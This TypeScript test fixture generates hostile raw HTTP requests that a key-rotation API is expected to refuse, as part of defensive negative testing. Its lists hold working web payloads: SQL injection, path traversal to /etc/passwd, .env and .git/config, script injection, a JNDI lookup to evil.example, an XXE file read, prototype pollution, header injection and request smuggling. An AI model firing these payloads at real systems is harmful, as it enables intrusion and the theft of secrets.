import { generateKeyPairSync } from 'node:crypto'

/** One request, byte by byte as it is to go out; `parser` may be refused by the HTTP parser, without a problem document. */
export type Hostile = { name: string; bytes: Buffer; parser?: true }

type Parts = { method?: string; path: string; headers?: readonly (readonly [string, string])[]; body?: string | Buffer }

/** Requests that nobody sends by mistake, or only by a very bad one. All are to be refused, and none is to reach the cloud. */
export function hostileRequests(host: string, project: string): Hostile[] {
  const rotations = `/api/projects/${project}/rotations`
  const ours: readonly (readonly [string, string])[] = [
    ['host', host],
    ['connection', 'close'],
  ]
  const json = [...ours, ['content-type', 'application/json'], ['idempotency-key', 'hostile']] as const
  const raw = ({ method = 'GET', path, headers = ours, body = '' }: Parts): Buffer => {
    const payload = Buffer.from(body)
    const hasLength = headers.some(([name]) => /^(?:content-length|transfer-encoding)$/i.test(name))
    const all = payload.length === 0 || hasLength ? headers : [...headers, ['content-length', `${payload.length}`]]
    const head = [`${method} ${path} HTTP/1.1`, ...all.map(([name, value]) => `${name}: ${value}`), '', '']
    return Buffer.concat([Buffer.from(head.join('\r\n'), 'latin1'), payload])
  }
  const say = (name: string, parts: Parts): Hostile => ({ name, bytes: raw(parts) })
  const bare = (name: string, parts: Parts): Hostile => ({ ...say(name, parts), parser: true })
  const post = (name: string, body: string | Buffer, path = rotations) =>
    say(name, { method: 'POST', path, headers: json, body })

  const good = {
    keyPair: 'cph-fleet-2026q4',
    serverIds: ['0123456789abcdef0123456789abcdef'],
    reason: 'r',
    proof: 'skipped',
    waves: {},
    stopAt: {},
  }
  const odd: readonly unknown[] = [null, true, 0, -1, 1.5, 1e308, '', [], {}, [[]], [null], { $ne: null }, 'a\nb']

  const misfits = Object.keys(good).flatMap((field) =>
    odd
      .filter((value) => !fits(field, value))
      .map((value) => post(`${field} ${JSON.stringify(value)}`, JSON.stringify({ ...good, [field]: value }))),
  )
  const injected = [
    "' OR '1'='1",
    '"; DROP TABLE rotation; --',
    '../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    'a\r\nX-Evil: 1',
    'a\u2028b',
    'a b',
    'a/b',
    'a?b=c',
    'a#b',
    '%00',
    '%',
    '👾',
    'x'.repeat(5_000),
  ]
  const inBody = injected.flatMap((text) => [
    post(`key pair ${text.slice(0, 30)}`, JSON.stringify({ ...good, keyPair: text })),
    post(`server ${text.slice(0, 30)}`, JSON.stringify({ ...good, serverIds: [text] })),
    post(`seen ${text.slice(0, 30)}`, JSON.stringify({ ...good, seen: { [text]: 'k' } })),
    post(`unknown field ${text.slice(0, 30)}`, JSON.stringify({ ...good, [text]: 1 })),
  ])
  const inPath = injected
    .map((text) => encodeURIComponent(text))
    .flatMap((text) => [
      say(`project ${text.slice(0, 30)}`, { path: `/api/projects/${text}/rotations` }),
      say(`rotation ${text.slice(0, 30)}`, { path: `${rotations}/${text}` }),
      say(`targets ${text.slice(0, 30)}`, { path: `${rotations}/${text}/targets?since=1` }),
      say(`evidence ${text.slice(0, 30)}`, { path: `${rotations}/${text}/evidence.json` }),
      say(`pause ${text.slice(0, 30)}`, { method: 'POST', path: `${rotations}/${text}/pause`, headers: ours }),
      say(`since ${text.slice(0, 30)}`, { path: `${rotations}/x/targets?since=${text}` }),
      say(`cursor ${text.slice(0, 30)}`, { path: `${rotations}?cursor=${text}` }),
    ])
  const paths = [
    '/api/%',
    '/api/%zz',
    '/api/%c0%ae%c0%ae/',
    '/api/../../etc/passwd',
    '/api/..%2f..%2fetc%2fpasswd',
    '/api/%2e%2e/%2e%2e/etc/passwd',
    '/api//projects',
    '/api/projects',
    '/api/projects//rotations',
    '/api/constructor',
    '/api/__proto__',
    `/api/projects/__proto__/rotations`,
    `/api/projects/constructor/servers`,
    `/api/projects/${project}`,
    `/api/projects/${project}/`,
    `/api/projects/${project}/rotations/undefined`,
    `/api/projects/${project}/../../session/x`,
    `/api/${'a/'.repeat(2_000)}`,
    `/api/${'a'.repeat(7_000)}`,
    '/assets/..%2f..%2fpackage.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/assets/..\\..\\package.json',
    '/assets/%00.js',
    '/.env',
    '/package.json',
    '/../package.json',
    '/../.env',
    '/..%2f.env',
    '/%2e%2e/.env',
    '/.git/config',
    '/.git/HEAD.txt',
    '/.vite/manifest.json',
    '/%2evite/manifest.json',
    '/assets/%2e%2e/.vite/manifest.json',
    '/assets%2f..%2f.vite%2fmanifest.json',
    '/assets/',
    '/assets',
    '/assets/..',
  ].map((path) => say(`GET ${path.slice(0, 60)}`, { path }))
  const methods = ['PUT', 'PATCH', 'DELETE', 'PROPFIND', 'MKCOL', 'PURGE', 'TRACE', 'SEARCH'].flatMap((method) =>
    [rotations, '/api/session', `${rotations}/x/pause`, '/api/nothing'].map((path) =>
      say(`${method} ${path.slice(0, 40)}`, { method, path }),
    ),
  )
  const bodies: Hostile[] = [
    post('no body', ''),
    post('half a document', '{"keyPair":'),
    post('nested 100,000 deep', nested(100_000)),
    post(
      'deep where a list is wanted',
      JSON.stringify(good).replace('["0123456789abcdef0123456789abcdef"]', nested(9_000)),
    ),
    post('not UTF-8', Buffer.from([0x7b, 0xff, 0xfe, 0x7d])),
    post('UTF-16', Buffer.from(JSON.stringify(good), 'utf16le')),
    post('NaN', '{"keyPair":NaN}'),
    post('a NUL by its escape', JSON.stringify({ ...good, reason: 'a\0b' })),
    post('half a surrogate pair', `{"reason":"\\ud800"}`),
    post('two documents', `${JSON.stringify(good)}${JSON.stringify(good)}`),
    post('__proto__', `{"__proto__":{"admin":true},${JSON.stringify(good).slice(1)}`),
    post('constructor', JSON.stringify({ ...good, constructor: { prototype: {} } })),
    post('10,001 servers', JSON.stringify({ ...good, serverIds: Array.from({ length: 10_001 }, (_, n) => `s${n}`) })),
    post('a reason of 1 MB', JSON.stringify({ ...good, reason: 'r'.repeat(1_000_000) })),
    ...['CHG-\u202e12', '\u2067CHG', 'CHG\u200b-1', 'a\ufeffb', 'CHG\u{e0041}', 'a\u2028b', 'a\u001b[2Jb'].map(
      (reason) => post(`the reason ${JSON.stringify(reason)}`, JSON.stringify({ ...good, reason })),
    ),
    post('a blank reason', JSON.stringify({ ...good, reason: ' \t\n' })),
    post('5 MB', JSON.stringify({ ...good, reason: 'r'.repeat(5_000_000) })),
    ...(['pkcs1', 'pkcs8'] as const).map((type) =>
      post(`a private key, ${type}`, JSON.stringify({ ...good, reason: pem(type) })),
    ),
    post('an OpenSSH private key', JSON.stringify({ ...good, keyPair: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl' })),
    post('XML', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    post('a form', 'keyPair=cph-fleet-2026q4&serverIds=a'),
    ...['retry', 'undo'].flatMap((word) =>
      odd.map((value) => post(`${word} ${JSON.stringify(value)}`, JSON.stringify(value), `${rotations}/x/${word}`)),
    ),
  ]
  const types = [
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    'application/jsonp',
    'text/json',
    'application/json-patch+json',
    '',
  ].map((type) =>
    say(`content type ${type}`, {
      method: 'POST',
      path: rotations,
      headers: [...ours, ['content-type', type], ['idempotency-key', 'k']],
      body: JSON.stringify(good),
    }),
  )
  const origins = [
    'https://evil.example',
    'null',
    'file://',
    `http://${host}.evil.example`,
    `https://${host}`,
    'x',
    '',
  ].map((origin) =>
    say(`origin ${origin}`, { method: 'POST', path: rotations, headers: [...json, ['origin', origin]], body: '{}' }),
  )
  const hosts = [
    'evil.example',
    `${host}.evil.example`,
    `evil.example:${host.split(':')[1]}`,
    '',
    'a b',
    '[::',
    host + '@evil',
  ].map((other) =>
    bare(`host ${other}`, {
      path: '/api/session',
      headers: [
        ['host', other],
        ['connection', 'close'],
      ],
    }),
  )
  const forged = [
    'x-forwarded-host',
    'x-forwarded-for',
    'forwarded',
    'x-original-url',
    'x-rewrite-url',
    'x-http-method-override',
  ].map((name) =>
    say(`${name} does not help a foreign origin`, {
      method: 'POST',
      path: rotations,
      headers: [...json, [name, name === 'forwarded' ? `host=${host}` : host], ['origin', 'https://evil.example']],
      body: JSON.stringify(good),
    }),
  )
  const keys = ['', ' ', 'k'.repeat(256), 'k\u00e9', 'a\tb', 'a\u007fb'].map((key) =>
    bare(`idempotency key ${JSON.stringify(key.slice(0, 10))}`, {
      method: 'POST',
      path: rotations,
      headers: [...ours, ['content-type', 'application/json'], ['idempotency-key', key]],
      body: JSON.stringify(good),
    }),
  )
  const smuggled: Hostile[] = [
    bare('length and chunks', {
      method: 'POST',
      path: rotations,
      headers: [...json, ['content-length', '4'], ['transfer-encoding', 'chunked']],
      body: '0\r\n\r\nGET /api/session HTTP/1.1\r\n\r\n',
    }),
    bare('two lengths', {
      method: 'POST',
      path: rotations,
      headers: [...json, ['content-length', '2'], ['content-length', '3']],
      body: '{}',
    }),
    bare('a negative length', {
      method: 'POST',
      path: rotations,
      headers: [...json, ['content-length', '-1']],
      body: '{}',
    }),
    bare('a length in hex', {
      method: 'POST',
      path: rotations,
      headers: [...json, ['content-length', '0x2']],
      body: '{}',
    }),
    bare('an unknown encoding', {
      method: 'POST',
      path: rotations,
      headers: [...json, ['transfer-encoding', 'gzip, x']],
      body: '{}',
    }),
    bare('a chunk of no size', {
      method: 'POST',
      path: rotations,
      headers: [...json, ['transfer-encoding', 'chunked']],
      body: 'zz\r\n{}\r\n',
    }),
    bare('a header that is folded', { path: '/api/session', headers: [...ours, ['x-a', 'b\r\n c: d\r\ne f: g']] }),
    bare('a header name with a blank', { path: '/api/session', headers: [...ours, ['x a', 'b']] }),
    bare('a header with NUL', { path: '/api/session', headers: [...ours, ['x-a', 'b\0c']] }),
    bare('no host', { path: '/api/session', headers: [['connection', 'close']] }),
    bare('two hosts', {
      path: '/api/session',
      headers: [
        ['host', host],
        ['host', 'evil.example'],
        ['connection', 'close'],
      ],
    }),
    bare('headers of 100 kB', { path: '/api/session', headers: [...ours, ['x-a', 'b'.repeat(100_000)]] }),
    bare('a whole address of another host', {
      path: 'http://evil.example/api/session',
      headers: [
        ['host', 'evil.example'],
        ['connection', 'close'],
      ],
    }),
    bare('no HTTP at all', { path: 'x' }),
    {
      name: 'rubbish',
      parser: true,
      bytes: Buffer.from('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n', 'latin1'),
    },
    { name: 'version 9', parser: true, bytes: Buffer.from(`GET /api/session HTTP/9.9\r\nhost: ${host}\r\n\r\n`) },
  ]
  return [
    ...misfits,
    ...inBody,
    ...inPath,
    ...paths,
    ...methods,
    ...bodies,
    ...types,
    ...origins,
    ...hosts,
    ...forged,
    ...keys,
    ...smuggled,
  ]
}

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`

/** What is no misfit at all: as a reason any text will do that shows, and no waves and no limits are fine. */
const fits = (field: string, value: unknown) =>
  (field === 'reason' && typeof value === 'string' && value !== '') ||
  (['waves', 'stopAt'].includes(field) && JSON.stringify(value) === '{}')

function pem(type: 'pkcs1' | 'pkcs8'): string {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 })
  return privateKey.export({ type, format: 'pem' }).toString()
}
